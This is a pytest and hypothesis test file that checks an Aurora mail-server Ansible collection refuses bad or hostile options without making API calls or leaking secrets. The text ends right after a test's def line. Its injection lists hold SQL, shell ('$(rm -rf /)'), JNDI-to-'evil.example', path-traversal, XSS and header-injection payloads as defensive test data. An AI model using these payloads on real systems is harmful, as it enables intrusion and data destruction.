"""Invalid and hostile arguments for every module, generated with hypothesis and run through each module's real main().

Each example is a task that would be valid (and would write to Aurora: create, update or delete) but for one bad
option: a wrong type, an empty or huge value, unicode, an injection-looking string, a port out of range, a malformed
address or domain, an unknown option, a bad item of a bulk module's list. For every one the module must fail with a
message that names the offending option, print no traceback, and leave Aurora untouched: no API call at all (so no
write), and the emulator's state exactly as before.

aurora_settings checks a value against the type Aurora declares for the setting, which it reads first: those bad
values (a wrong type, an unknown setting, one only the PHP API can write) are refused after reads and before any
write, in a test of their own; its options alone (credentials, an empty AdminLogin, Core's Disabled, ...) are refused
before any API call, like every other module's.

The examples are derandomized (the same ones on every run) and counted as they are tried; the count, which must reach
1,000, is recorded as the figures "bad-input" (build/reliability/bad-input.json).

The options, their types, choices and which are required come from the modules' argument specs; only the bad values
of text and list options, which depend on what the option holds, are written here.
"""

import decimal
import os
import re
import string

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from ansible.release import __version__ as ansible_core_version

from ansible_collections.afterlogic.aurora.plugins.module_utils._group import Group
from ansible_collections.afterlogic.aurora.plugins.module_utils._info import info_argument_spec
from ansible_collections.afterlogic.aurora.plugins.module_utils._kind import bulk_argument_spec
from ansible_collections.afterlogic.aurora.plugins.module_utils._mail_account import MailAccount
from ansible_collections.afterlogic.aurora.plugins.module_utils._mail_domain import MailDomain
from ansible_collections.afterlogic.aurora.plugins.module_utils._mail_server import MailServer
from ansible_collections.afterlogic.aurora.plugins.module_utils._module import (
    MAX_TEXT_LENGTH,
    connection_argument_spec,
)
from ansible_collections.afterlogic.aurora.plugins.module_utils._settings import Settings
from ansible_collections.afterlogic.aurora.plugins.module_utils._tenant import Tenant
from ansible_collections.afterlogic.aurora.plugins.module_utils._user_account import UserAccount
from tests.helpers.figures import figures_fixture
from tests.helpers.module_runner import module_task, run_module

MIN_EXAMPLES = 1000
EXAMPLES = {  # per test; 1,350 in all
    'aurora_api_token': 100,
    'aurora_tenant': 100,
    'aurora_mail_domain': 100,
    'aurora_group': 100,
    'aurora_mail_server': 200,
    'aurora_user_account': 150,
    'aurora_mail_servers': 100,
    'aurora_mail_account': 100,
    'aurora_user_accounts': 150,
    'aurora_info': 50,
    'aurora_settings': 100,
    'aurora_settings_declared': 50,  # refused after Aurora's declarations are read, before any write
    'too_long': 50,
}

figures = figures_fixture('bad-input')


PHASES = [Phase.explicit, Phase.generate, Phase.shrink] if os.environ.get('BAD_INPUT_SHRINK') else \
    [Phase.explicit, Phase.generate]  # no shrinking by default: a failure shows its example at once


def examples(count):
    return settings(max_examples=count, deadline=None, phases=PHASES, derandomize=True, database=None, print_blob=False,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                           HealthCheck.data_too_large, HealthCheck.filter_too_much])


# ---- valid tasks (each would write if it were run) ---------------------------------------------------------------

SERVER = dict(name='mydomain', incoming_server='mail.mydomain.com', incoming_port=143, outgoing_port=25,
              smtp_auth_type='user_credentials', domains=['mydomain.com'])
ACCOUNT = dict(email='user@mydomain.com', password='Seed-Secret-1', server='mydomain', friendly_name='User')

SERVER_TASKS = [
    dict(SERVER, incoming_port=993, incoming_use_ssl=True),                                  # update
    dict(name='fresh', incoming_server='imap.fresh.example', domains=['fresh.example']),     # create
    dict(name='relay', incoming_server='imap.relay.example', domains=['relay.example'],      # create with a secret
         smtp_auth_type='specified_credentials', smtp_login='relay', smtp_password='Relay-Secret-1'),
    dict(name='mydomain', state='absent', force=True),                                       # delete
    dict(SERVER, smtp_password='New-Secret-2', update_password='always'),                   # update the secret
]
ACCOUNT_TASKS = [
    dict(ACCOUNT, friendly_name='Renamed', update_password='always', password='New-Secret-3'),  # update
    dict(email='new@mydomain.com', password='New-Secret-4', server='mydomain'),                # create
    dict(email='new@mydomain.com', password='New-Secret-5', role='tenant_admin', disabled=True),
    dict(email='user@mydomain.com', state='absent'),                                          # delete
]

SERVER_OPTIONS = MailServer.item_spec()
ACCOUNT_OPTIONS = UserAccount.item_spec()
CONNECTION_OPTIONS = connection_argument_spec()
TENANT_OPTIONS = Tenant.item_spec()
TENANT_TASKS = [
    dict(name='acme', description='Acme Inc', web_domain='mail.acme.example', site_name='Acme'),  # create or update
    dict(name='acme', state='absent', force=True),                                                # delete
]
MAIL_DOMAIN_OPTIONS = MailDomain.item_spec()
MAIL_DOMAIN_TASKS = [
    dict(name='acme.example', tenant='acme', server='mail'),  # register
    dict(name='acme.example', state='absent', force=True),    # delete
]
MAIL_ACCOUNT_OPTIONS = MailAccount.item_spec()
MAIL_ACCOUNT_TASKS = [
    dict(user='user@mydomain.com', email='sales@mydomain.com', password='Sales-Secret-1', server='mydomain'),  # create
    dict(user='user@mydomain.com', email='sales@mydomain.com', friendly_name='Sales'),                          # update
    dict(user='user@mydomain.com', email='sales@mydomain.com', state='absent'),                                 # delete
]
INFO_OPTIONS = info_argument_spec()
INFO_TASKS = [dict(gather=['servers', 'users']), dict(tenant='Default', search='example')]
GROUP_OPTIONS = Group.item_spec()
GROUP_TASKS = [
    dict(name='Sales', tenant='acme', members=['ann@acme.example']),  # create or set members
    dict(name='Sales', tenant='acme', state='absent'),                # delete
]
SETTINGS_OPTIONS = Settings.item_spec()
SETTINGS_TASKS = [
    dict(module='Core', settings={'SiteName': 'Acme Mail', 'TimeFormat': 'F12'}),                    # update
    dict(module='system', settings={'LoggingLevel': 'Warning'}, admin_password='New-Admin-Secret-1'),  # with a secret
    dict(module='Mail', settings={'AllowAddAccounts': False}),
]
EXTERNAL_ACCESS_OPTIONS = SERVER_OPTIONS['external_access']['options']
MAIL_SERVERS_OPTIONS = bulk_argument_spec(MailServer)
USER_ACCOUNTS_OPTIONS = bulk_argument_spec(UserAccount)


# ---- bad values ---------------------------------------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE users; --", '" OR "1"="1', '<script>alert(1)</script>', '$(rm -rf /)', '`id`',
    "{{ lookup('pipe', 'id') }}", '${jndi:ldap://evil.example/a}', '../../../../etc/passwd', '%00', '%0d%0aSet-Cookie: a=b',
    '\u202eevil', '\ufeff', 'Robert\'); DROP TABLE Students;--', '|| ping -c 1 evil.example', '<!--#exec cmd="id"-->',
]
CONTROL_CHARACTERS = [chr(code) for code in range(32)] + ['\x7f']


def long_text(alphabet=None):
    """Text longer than Aurora's varchar(255): a unit (unicode included) repeated to 256..4,000 characters."""
    unit = st.text(alphabet=alphabet, min_size=1, max_size=6) if alphabet else st.text(min_size=1, max_size=6)
    return st.builds(lambda piece, size: (piece * (size // len(piece) + 1))[:size],
                     unit, st.integers(MAX_TEXT_LENGTH + 1, 4000))


def with_inserted(text_strategy, inserted):
    """A text with one of ``inserted`` somewhere in it."""
    return st.builds(lambda text, extra, at: text[:at % (len(text) + 1)] + extra + text[at % (len(text) + 1):],
                     text_strategy, st.sampled_from(inserted), st.integers(0, 50))


def inside(text_strategy, inserted):
    """A text with one of ``inserted`` between two of its characters (surrounding spaces are removed, as documented)."""
    return st.builds(lambda text, extra, at: text[:1 + at % (len(text) - 1)] + extra + text[1 + at % (len(text) - 1):],
                     text_strategy, st.sampled_from(inserted), st.integers(0, 50))


SOME_TEXT = st.text(max_size=20)
WITH_CONTROL = with_inserted(SOME_TEXT, CONTROL_CHARACTERS)
SPACES = [' ', '\t', '\n', '\u00a0', '\u2028', '\u3000']
WITH_SPACE = with_inserted(st.text(alphabet=string.ascii_letters + '.-', max_size=20), SPACES)
NOT_A_NUMBER = st.one_of(st.sampled_from(['inf', '-Infinity', 'nan', '1e5000', '-1e4400', '1e-999999']),
                         st.sampled_from([float('inf'), float('-inf'), float('nan')]),
                         st.text(min_size=1, max_size=10).filter(lambda text: not _number_text(text)),
                         st.lists(st.integers(), max_size=3),
                         st.dictionaries(st.text(max_size=5), st.integers(), min_size=1, max_size=2),
                         st.floats(allow_nan=False, allow_infinity=False).filter(lambda value: value != int(value)),
                         st.sampled_from(INJECTIONS))
BAD_PORT = st.one_of(st.integers(max_value=0), st.integers(min_value=65536), st.integers(65536, 10 ** 15).map(float),
                     st.booleans(), NOT_A_NUMBER)
BAD_PORT_OR_ZERO = st.one_of(st.integers(max_value=-1), st.integers(min_value=65536), st.booleans(), NOT_A_NUMBER)
BOOLEAN_WORDS = {'1', '0', 'true', 'false', 'yes', 'no', 'on', 'off', 'y', 'n', 't', 'f', '1.0', '0.0'}
BAD_BOOL = st.one_of(st.text(min_size=1, max_size=12).filter(lambda text: text.strip().lower() not in BOOLEAN_WORDS),
                     st.integers().filter(lambda number: number not in (0, 1)), st.lists(st.booleans(), min_size=1, max_size=3),
                     st.sampled_from(INJECTIONS))
BAD_POSITIVE = st.one_of(st.integers(max_value=0), NOT_A_NUMBER)
NOT_A_DICT = st.one_of(st.integers(), st.lists(st.integers(), min_size=1, max_size=2))
NOT_A_LIST = st.dictionaries(st.sampled_from(['a']), st.integers(), min_size=1)
BAD_URL = st.one_of(st.sampled_from([
    '', ' ', 'mail.example.com', 'ftp://mail.example.com/', 'file:///etc/passwd', 'javascript:alert(1)', 'http://',
    'https://', 'http:///webmail/', '//mail.example.com/', 'http://mail example.com/', 'http://[::1/', 'gopher://x',
    'http://exa\nmple.com/', 'https://mail.example.com/web mail/', 'data:text/html,<script>alert(1)</script>',
    "http://'; DROP TABLE users; --", 'ht tp://mail.example.com/', '\x00http://mail.example.com/']),
    st.text(alphabet=string.ascii_letters + string.digits + '.-/', max_size=30),
    st.builds('{}://{}'.format, st.sampled_from(['ftp', 'file', 'smb', 'ldap', 'ws', 'htt', 'httpx']),
              st.text(alphabet=string.ascii_lowercase + '.', min_size=1, max_size=15)))


def _number_text(text):
    """Whether ansible-core reads ``text`` as a number ('inf' and '1e5000' included: NOT_A_NUMBER lists them)."""
    try:
        decimal.Decimal(text)
    except (decimal.DecimalException, ValueError):
        return False
    return not decimal.Decimal(text).is_finite() or abs(decimal.Decimal(text).adjusted()) > 30 or \
        decimal.Decimal(text) == decimal.Decimal(text).to_integral_value()


def bad_choice(choices):
    return st.one_of(st.text(max_size=20), st.sampled_from(INJECTIONS),
                     st.sampled_from([choice.upper() for choice in choices] + [' %s' % choices[0], choices[0] + '\n']),
                     st.integers()).filter(lambda value: str(value) not in choices)


def unknown_option(known):
    return st.from_regex(r'\A[a-z][a-z0-9_]{0,15}\Z').filter(lambda name: name not in known)


BAD_DOMAIN = st.one_of(
    st.sampled_from([
        '', ' ', '.', '..', '.com', 'com.', 'a..com', '-a.com', 'a-.com', 'a b.com', 'a_b.com', 'ex\u00e4mple.com',
        '\u4f8b\u3048.jp', '*.example.com', 'a*.com', 'user@example.com', 'example.com/path', 'example.com:25',
        'a.com\nb.com', 'a.com\r\nb.com', 'a.com\x00', 'a.com;b.com', 'a.com,b.com', 'http://a.com', '[::1]',
        'x' * 64 + '.com', '.'.join(['a' * 50] * 6)]),
    st.sampled_from(INJECTIONS),
    long_text(string.ascii_lowercase + '.'),
    inside(st.text(alphabet=string.ascii_lowercase + '.', min_size=2, max_size=20), [' ', '\n', '\t', '/', '@', '_', '!',
                                                                                     '\u00e9', '\x00']))
BAD_EMAIL = st.one_of(
    st.sampled_from([
        '', ' ', '@', 'user', 'user@', '@mydomain.com', 'two@at@mydomain.com', 'bad name@mydomain.com',
        'us\u00e9r@mydomain.com', 'user@m\u00fcdomain.com', 'user@mydomain.com\nBcc: x@evil.example',
        'user@my domain.com', '"quoted"@mydomain.com', 'user(comment)@mydomain.com', '<user@mydomain.com>',
        'user@mydomain.com, other@mydomain.com', 'user;drop@mydomain.com']),
    st.sampled_from(INJECTIONS),
    st.builds('{}@mydomain.com'.format, long_text(string.ascii_lowercase)),
    inside(st.just('user@mydomain.com'),
           [' ', '\t', '\n', '\x00', '@', '"', '<', '>', ',', ';', '\u00e9', '\u202e', '(', ')', '[', ']', '\\']))
BAD_HOST = st.one_of(st.just(''), WITH_SPACE, WITH_CONTROL.filter(lambda text: re.search(r'[\s\x00-\x1f\x7f]', text)),
                     long_text(string.ascii_lowercase + '.'))
BAD_NAME = st.one_of(st.sampled_from(['', ' ', '   ', ' lead', 'trail ', '\t', '\n']),
                     st.builds(' {}'.format, SOME_TEXT), st.builds('{}\n'.format, SOME_TEXT),
                     WITH_CONTROL, long_text())
EMPTY_OR_BLANK = st.text(alphabet=' \t\n\r\u00a0\u2003', max_size=4)


# ---- cases: (options to set or replace, option names the message must contain, options to remove) -----------------

def case(options, *names, removed=()):
    return dict(options=options, names=names, removed=removed)


def one_option(option, strategy, *names):
    return strategy.map(lambda value: case({option: value}, *(names or (option,))))


def bad_number(name):
    """A port is from 1 to 65535 (alter_port may be 0: none); any other int (seconds, an id, a count) is at least 1."""
    if name == 'alter_port':
        return BAD_PORT_OR_ZERO
    return BAD_PORT if name.endswith('port') else BAD_POSITIVE


def bad_typed_value(name, option):
    """Values that the choices or the type of an option refuse; None for text and lists, whose bad values depend on
    what they hold."""
    if option.get('choices'):
        return bad_choice(option['choices'])
    return {'bool': BAD_BOOL, 'int': bad_number(name), 'dict': NOT_A_DICT}.get(option.get('type', 'str'))


def option_cases(spec, values):
    """One bad value of one option of ``spec``: from ``values`` (option: strategy, for what its type cannot say), else
    from its choices or type. The bool options share one branch, as they share their bad values."""
    assert set(values) <= set(spec), 'not options: %s' % sorted(set(values) - set(spec))
    bools = [name for name, option in spec.items() if option.get('type') == 'bool' and name not in values]
    bad = dict((name, values.get(name, bad_typed_value(name, option))) for name, option in spec.items()
               if name not in bools)
    branches = [one_option(name, strategy) for name, strategy in bad.items() if strategy is not None]
    if bools:
        branches.append(st.sampled_from(bools).flatmap(lambda name: one_option(name, BAD_BOOL)))
    return branches


def missing_required_cases(spec):
    return [st.just(case({}, name, removed=(name,))) for name, option in spec.items() if option.get('required')]


ANY_VALUE = st.one_of(SOME_TEXT, st.integers(), st.sampled_from(INJECTIONS))


def unknown_option_cases(known, values=ANY_VALUE):
    return unknown_option(known).flatmap(lambda name: values.map(lambda value: case({name: value}, name)))


def nested(option, cases):
    """``cases`` of the sub-options of ``option``, as cases of ``option``."""
    return cases.map(lambda bad: case({option: bad['options']}, option, *bad['names']))


# Bad values of the options whose type does not say them: text and lists, by what they hold.
CONNECTION_VALUES = dict(
    api_url=BAD_URL,
    # the install folder must be absolute; paths hold no control characters
    aurora_path=st.one_of(SOME_TEXT.filter(lambda text: not text.startswith(('/', '~')) and '$' not in text),
                          WITH_CONTROL.map(lambda text: '/var/www/' + text)),
    php_executable=st.one_of(EMPTY_OR_BLANK, WITH_CONTROL),
)
SERVER_VALUES = dict(
    name=BAD_NAME,
    incoming_server=BAD_HOST,
    outgoing_server=BAD_HOST,
    smtp_login=st.one_of(WITH_CONTROL, long_text()),
    smtp_password=long_text(),
    domains=st.one_of(st.just([]), st.lists(BAD_DOMAIN, min_size=1, max_size=3),
                      st.builds(lambda bad, at: ['mydomain.com', 'other.example'][:at] + [bad],
                                BAD_DOMAIN, st.integers(0, 2)),
                      st.dictionaries(st.text(max_size=5), st.integers(), min_size=1, max_size=2)),
)
BAD_TENANT = st.one_of(EMPTY_OR_BLANK, WITH_CONTROL)
SERVER_VALUES['tenant'] = BAD_TENANT
EXTERNAL_SERVICE_VALUES = dict(server=st.one_of(WITH_SPACE, long_text(string.ascii_lowercase + '.')))
ACCOUNT_VALUES = dict(
    email=BAD_EMAIL,
    password=st.one_of(EMPTY_OR_BLANK, long_text()),
    server=st.one_of(EMPTY_OR_BLANK, long_text()),
    incoming_login=st.one_of(EMPTY_OR_BLANK, WITH_CONTROL, long_text()),
    friendly_name=st.one_of(WITH_CONTROL, long_text()),
    tenant=BAD_TENANT,
)

TENANT_VALUES = dict(
    name=st.one_of(BAD_NAME, st.sampled_from(['a/b', 'x:y', 'a*', '[a]', '^a', '<a>', 'a|b', 'why?', ' /*?<>|: '])),
    description=st.one_of(WITH_CONTROL, long_text()),
    web_domain=st.one_of(WITH_CONTROL, long_text()),
    site_name=st.one_of(WITH_CONTROL, long_text()),
)
MAIL_DOMAIN_VALUES = dict(
    name=st.one_of(BAD_DOMAIN, st.sampled_from(['*', ' acme.example', 'acme.example '])),
    tenant=BAD_TENANT,
    server=st.one_of(EMPTY_OR_BLANK, WITH_CONTROL, long_text()),
)
MAIL_ACCOUNT_VALUES = dict(
    [(option, value) for option, value in ACCOUNT_VALUES.items() if option in MAIL_ACCOUNT_OPTIONS], user=BAD_EMAIL)
GROUP_VALUES = dict(
    name=st.one_of(EMPTY_OR_BLANK, WITH_CONTROL, long_text(), st.sampled_from([' Sales', 'Sales '])),
    tenant=BAD_TENANT,
    members=st.lists(st.one_of(BAD_EMAIL, st.sampled_from([' ann@acme.example', 'ann'])), min_size=1, max_size=3),
)


SETTINGS_VALUES = dict(
    module=st.one_of(EMPTY_OR_BLANK, WITH_CONTROL.filter(lambda text: re.search(r'[\x00-\x1f\x7f]', text))),
    admin_password=st.one_of(EMPTY_OR_BLANK, st.builds(' {}'.format, st.text(min_size=4, max_size=12)),
                             st.builds('{}\t'.format, st.text(min_size=4, max_size=12))),
)
# Setting names that are none, and the credentials, which settings never takes (admin_password is the one secret).
NOT_A_SETTING_NAME = st.one_of(EMPTY_OR_BLANK, with_inserted(st.text(alphabet=string.ascii_letters, max_size=12),
                                                             CONTROL_CHARACTERS))
CREDENTIAL_NAMES = ['AdminPassword', 'DBPassword', 'DBSlavePassword', 'LicenseKey', 'SieveGeneralPassword', 'Secret',
                    'ClientSecret', 'SecretKey', 'ServerKey', 'AccessToken', 'PrivateKey', 'ApiKey', 'Key']


def settings_cases():
    """One bad option of an aurora_settings task that its options alone refuse."""
    any_value = st.one_of(SOME_TEXT, st.integers(), st.booleans())
    return st.one_of(
        *option_cases(SETTINGS_OPTIONS, SETTINGS_VALUES),
        *missing_required_cases(SETTINGS_OPTIONS),
        st.tuples(NOT_A_SETTING_NAME, any_value).map(lambda bad: case({'settings': {bad[0]: bad[1]}}, 'settings')),
        st.tuples(st.sampled_from(CREDENTIAL_NAMES), SOME_TEXT).map(
            lambda bad: case({'settings': {bad[0]: bad[1]}}, 'settings', bad[0])),
        st.one_of(EMPTY_OR_BLANK, st.integers(), st.booleans(), st.none(), st.lists(st.integers(), max_size=2)).map(
            lambda login: case({'module': 'system', 'settings': {'AdminLogin': login}}, 'AdminLogin')),
        st.booleans().map(lambda off: case({'module': 'Core', 'settings': {'Disabled': off}}, 'Disabled', 'Core')),
        st.sampled_from(['AdminAuth', 'CoreWebclient', 'adminauth']).map(  # switched off without force
            lambda module: case({'module': module, 'settings': {'Disabled': True}, 'force': False}, 'Disabled',
                                'force')),
        st.sampled_from(['Core', 'Mail', 'AdminAuth']).map(  # the administrator's password is the system's
            lambda module: case({'module': module, 'admin_password': 'Other-Admin-Secret-2'}, 'admin_password')),
        unknown_option_cases(dict(SETTINGS_OPTIONS, **CONNECTION_OPTIONS)),
    )


def connection_cases():
    return st.one_of(
        *option_cases(CONNECTION_OPTIONS, CONNECTION_VALUES),
        st.just(case({'api_password': None, 'api_token': None}, 'api_password', 'api_token')),
        unknown_option_cases(CONNECTION_OPTIONS),
    )


def external_access_cases():
    """One bad sub-option of external_access (the top-level value itself is in server_cases)."""
    services = [name for name, option in EXTERNAL_ACCESS_OPTIONS.items() if option.get('type') == 'dict']
    flags = dict((name, option) for name, option in EXTERNAL_ACCESS_OPTIONS.items() if name not in services)

    def service_cases(service):
        spec = EXTERNAL_ACCESS_OPTIONS[service]['options']
        return nested(service, st.one_of(*option_cases(spec, EXTERNAL_SERVICE_VALUES),
                                         unknown_option_cases(spec, st.just(1))))

    return nested('external_access', st.one_of(
        st.sampled_from(services).flatmap(service_cases),
        st.sampled_from(services).map(lambda name: case({'enabled': False, name: {'server': 'mail.example.com'}},
                                                        name, 'enabled')),
        *option_cases(flags, {})))


def server_cases():
    """One bad option of a mail server task (also an item of aurora_mail_servers)."""
    return st.one_of(
        *option_cases(SERVER_OPTIONS, SERVER_VALUES),
        *missing_required_cases(SERVER_OPTIONS),
        external_access_cases(),
        st.integers(1, 10).map(lambda number: case({'tenant': 'acme', 'tenant_id': number}, 'tenant', 'tenant_id')),
        unknown_option_cases(dict(SERVER_OPTIONS, **CONNECTION_OPTIONS)),
    )


def account_cases():
    """One bad option of a user account task (also an item of aurora_user_accounts)."""
    return st.one_of(
        *option_cases(ACCOUNT_OPTIONS, ACCOUNT_VALUES),
        *missing_required_cases(ACCOUNT_OPTIONS),
        st.integers(1, 10).map(lambda number: case({'server': 'mydomain', 'server_id': number}, 'server', 'server_id')),
        st.integers(1, 10).map(lambda number: case({'tenant': 'acme', 'tenant_id': number}, 'tenant', 'tenant_id')),
        unknown_option_cases(dict(ACCOUNT_OPTIONS, **CONNECTION_OPTIONS)),
    )


def mail_domain_cases():
    """One bad option of a mail domain task."""
    return st.one_of(
        *option_cases(MAIL_DOMAIN_OPTIONS, MAIL_DOMAIN_VALUES),
        *missing_required_cases(MAIL_DOMAIN_OPTIONS),
        st.integers(1, 10).map(lambda number: case({'server': 'mail', 'server_id': number}, 'server', 'server_id')),
        unknown_option_cases(dict(MAIL_DOMAIN_OPTIONS, **CONNECTION_OPTIONS)),
    )


def mail_account_cases():
    """One bad option of an extra mail account task."""
    return st.one_of(
        *option_cases(MAIL_ACCOUNT_OPTIONS, MAIL_ACCOUNT_VALUES),
        *missing_required_cases(MAIL_ACCOUNT_OPTIONS),
        st.integers(1, 10).map(lambda number: case({'server': 'mydomain', 'server_id': number}, 'server', 'server_id')),
        unknown_option_cases(dict(MAIL_ACCOUNT_OPTIONS, **CONNECTION_OPTIONS)),
    )


def info_cases():
    """One bad option of an aurora_info task."""
    return st.one_of(
        *option_cases(INFO_OPTIONS, dict(tenant=BAD_TENANT)),
        unknown_option_cases(dict(INFO_OPTIONS, **CONNECTION_OPTIONS)),
    )


def group_cases():
    """One bad option of a group task."""
    return st.one_of(
        *option_cases(GROUP_OPTIONS, GROUP_VALUES),
        *missing_required_cases(GROUP_OPTIONS),
        st.just(case({}, 'tenant', removed=('tenant',))),
        unknown_option_cases(dict(GROUP_OPTIONS, **CONNECTION_OPTIONS)),
    )


def tenant_cases():
    """One bad option of a tenant task."""
    return st.one_of(
        *option_cases(TENANT_OPTIONS, TENANT_VALUES),
        *missing_required_cases(TENANT_OPTIONS),
        unknown_option_cases(dict(TENANT_OPTIONS, **CONNECTION_OPTIONS)),
    )


def task_with(base, bad):
    task = dict(base, **bad['options'])
    for option in bad['removed']:
        task.pop(option, None)
    for group in UserAccount.mutually_exclusive:  # only the bad option, not "mutually exclusive" with the base's
        if len(set(group) & set(bad['options'])) == 1:
            for other in set(group) - set(bad['options']):
                task.pop(other, None)
    return task


def single_tasks(bases, bad_cases):
    return st.tuples(st.sampled_from(bases), st.one_of(bad_cases, connection_cases())).map(
        lambda pair: (task_with(pair[0], pair[1]), pair[1]['names']))


# ---- bulk modules ---------------------------------------------------------------------------------------------------

VALID_SERVER_ITEMS = [dict(name='bulk-%d' % number, incoming_server='imap%d.example' % number,
                           domains=['bulk%d.example' % number]) for number in range(3)]
VALID_ACCOUNT_ITEMS = [dict(email='bulk%d@mydomain.com' % number, password='Bulk-Secret-%d' % number,
                            server='mydomain') for number in range(3)]


def items_with_one_bad(valid_items, bases, bad_cases, option):
    """A list of valid items with one bad item (an item with one bad option) somewhere in it."""
    def build(others, base, bad, at):
        items = list(valid_items[:others])
        items.insert(at % (others + 1), task_with(base, bad))
        return {option: items}, (option,) + bad['names']
    return st.builds(build, st.integers(0, len(valid_items)), st.sampled_from(bases), bad_cases, st.integers(0, 3))


def bad_item_lists(option, valid_items, identity, spellings):
    """Items that are not dicts, a list that is not a list, or the same item twice."""
    return st.one_of(
        st.lists(st.one_of(st.integers(), st.floats(allow_nan=False), st.lists(st.integers(), min_size=1, max_size=2)),
                 min_size=1, max_size=3).map(lambda items: ({option: list(valid_items[:1]) + items}, (option,))),
        st.one_of(st.integers(), st.dictionaries(st.sampled_from(['a', 'b']), st.integers(), min_size=1)).map(
            lambda value: ({option: value}, (option,))),
        st.sampled_from(spellings).map(lambda twin: ({option: [valid_items[0], dict(valid_items[1], **{identity: twin})]},
                                                     (option, identity))),
        st.just(({}, (option,))),  # the list itself missing
    )


def bulk_common(spec):
    """A bad value of an option of the bulk module itself (parallel), or a bad connection option."""
    own = dict((name, option) for name, option in spec.items() if option['type'] != 'list')
    return st.one_of(*option_cases(own, {}), connection_cases()).map(lambda bad: (bad['options'], bad['names']))


def plan_cases(spec, valid_item):
    """A bad item of a check-mode plan (planned_account_moves, planned); ``valid_item`` is a good one."""
    required = tuple(name for name, option in spec.items() if option.get('required'))
    ints = [name for name, option in spec.items() if option['type'] == 'int']
    lists = [name for name, option in spec.items() if option['type'] == 'list']
    cases = [
        st.just(([{ints[0]: 1}], required)),
        st.tuples(st.sampled_from(ints), NOT_A_NUMBER).map(lambda c: ([dict(valid_item, **{c[0]: c[1]})], (c[0],))),
        unknown_option(spec).map(lambda name: ([dict(valid_item, **{name: 1})], (name,))),
        st.integers().map(lambda value: ([value], ())),
    ]
    if lists:
        cases.append(st.tuples(st.sampled_from(lists), NOT_A_LIST).map(
            lambda c: ([dict(valid_item, **{c[0]: c[1]})], (c[0],))))
    return st.one_of(*cases)


def bulk_tasks(kind, spec, valid_items, bases, bad_cases, spellings, plan, valid_plan_item):
    """A bulk task with one bad item, a bad list of items, a bad option of its own or a bad check-mode plan."""
    option = kind.option
    return st.one_of(
        items_with_one_bad(valid_items, bases, bad_cases, option),
        bad_item_lists(option, valid_items, kind.key, spellings),
        bulk_common(spec).map(lambda bad: (dict(bad[0], **{option: valid_items}), bad[1])),
        plan_cases(spec[plan]['options'], valid_plan_item).map(
            lambda bad: ({option: valid_items, plan: bad[0]}, (plan,) + bad[1])),
    )


def mail_servers_tasks():
    return bulk_tasks(MailServer, MAIL_SERVERS_OPTIONS, VALID_SERVER_ITEMS, SERVER_TASKS, server_cases(),
                      [VALID_SERVER_ITEMS[0]['name']], 'planned_account_moves', {'email': 'a@mydomain.com'})


def user_accounts_tasks():
    first = VALID_ACCOUNT_ITEMS[0]['email']
    return bulk_tasks(UserAccount, USER_ACCOUNTS_OPTIONS, VALID_ACCOUNT_ITEMS, ACCOUNT_TASKS, account_cases(),
                      [first, first.upper(), ' %s ' % first, first.title()], 'planned',
                      {'kind': 'mail_server', 'name': 'mydomain'})


# ---- the check --------------------------------------------------------------------------------------------------------

@pytest.fixture
def aurora(emulator):
    """The emulator with one mail server and one user with its account, so that a bad task has something to break."""
    emulator.settings({'Mail': {'DoImapLoginOnAccountCreate': False}})
    assert not module_task(emulator, 'aurora_mail_server')(**SERVER).failed
    assert not module_task(emulator, 'aurora_user_account')(**ACCOUNT).failed
    state = emulator.state()
    assert len(state['servers']) == 1 and len(state['accounts']) == 1
    emulator.calls_clear()
    return emulator, state


# From ansible-core 2.20 on, AnsibleModule() logs its arguments to syslog once they pass its type checks, before the
# module's own checks run: an argument that holds a NUL character then fails the task there, with core's message.
CORE_REFUSES_NUL_FIRST = tuple(int(part) for part in ansible_core_version.split('.')[:2]) >= (2, 20)
CORE_NUL_MESSAGE = 'Failed to log to syslog (embedded null character).'


def holds_nul(value):
    if isinstance(value, dict):
        return any(holds_nul(key) or holds_nul(item) for key, item in value.items())
    if isinstance(value, (list, tuple)):
        return any(holds_nul(item) for item in value)
    return isinstance(value, str) and '\x00' in value


def secrets_of(value):
    """The values of the password options in ``value``, at any depth, long enough to be told apart in output."""
    if isinstance(value, dict):
        found = [item for key, item in value.items()
                 if str(key).endswith('password') and key != 'update_password' and isinstance(item, str)]
        return [secret for secret in found if len(secret.strip()) >= 4] + \
            [secret for item in value.values() for secret in secrets_of(item)]
    if isinstance(value, list):
        return [secret for item in value for secret in secrets_of(item)]
    return []


def names_option(message, name):
    return re.search(r'(?<![A-Za-z0-9])%s(?![A-Za-z0-9])' % re.escape(str(name)), message) is not None


def assert_refused(aurora, figures, module, options, names, check_mode=False):
    emulator, before = aurora
    figures.add('examples tried')
    args = dict(api_url=emulator.url, api_username=emulator.admin_login, api_password=emulator.admin_password)
    args.update(options)
    result = run_module(module, args, check_mode=check_mode)
    calls = emulator.calls()
    assert result.failed, (module, options, result)
    assert 'exception' not in result and 'Traceback' not in result.printed, result.printed
    assert calls == [], (module, options, calls)  # refused before any API call, so no write
    assert emulator.state() == before
    leaked = [secret for secret in secrets_of(args) if secret in result.printed]
    assert not leaked, 'a secret is in the output: %s' % result.printed
    if CORE_REFUSES_NUL_FIRST and holds_nul(options) and result['msg'].startswith(CORE_NUL_MESSAGE):
        figures.add('refused by ansible-core (a NUL character)')
        return result
    missing = [name for name in names if not names_option(result['msg'], name)]
    assert not missing, 'the message does not name %s: %s' % (missing, result['msg'])
    figures.add('refused naming the option')
    return result


@examples(EXAMPLES['aurora_api_token'])
@given(bad=connection_cases(), check_mode=st.booleans())
def test_aurora_api_token_refuses_bad_connection_options(aurora, figures, bad, check_mode):
    assert_refused(aurora, figures, 'aurora_api_token', task_with({}, bad), bad['names'], check_mode)


@examples(EXAMPLES['aurora_mail_server'])
@given(task=single_tasks(SERVER_TASKS, server_cases()), check_mode=st.booleans())
def test_aurora_mail_server_refuses_bad_options(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_mail_server', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_user_account'])
@given(task=single_tasks(ACCOUNT_TASKS, account_cases()), check_mode=st.booleans())
def test_aurora_user_account_refuses_bad_options(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_user_account', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_tenant'])
@given(task=single_tasks(TENANT_TASKS, tenant_cases()), check_mode=st.booleans())
def test_aurora_tenant_refuses_bad_options(aurora, figures, task, check_mode):
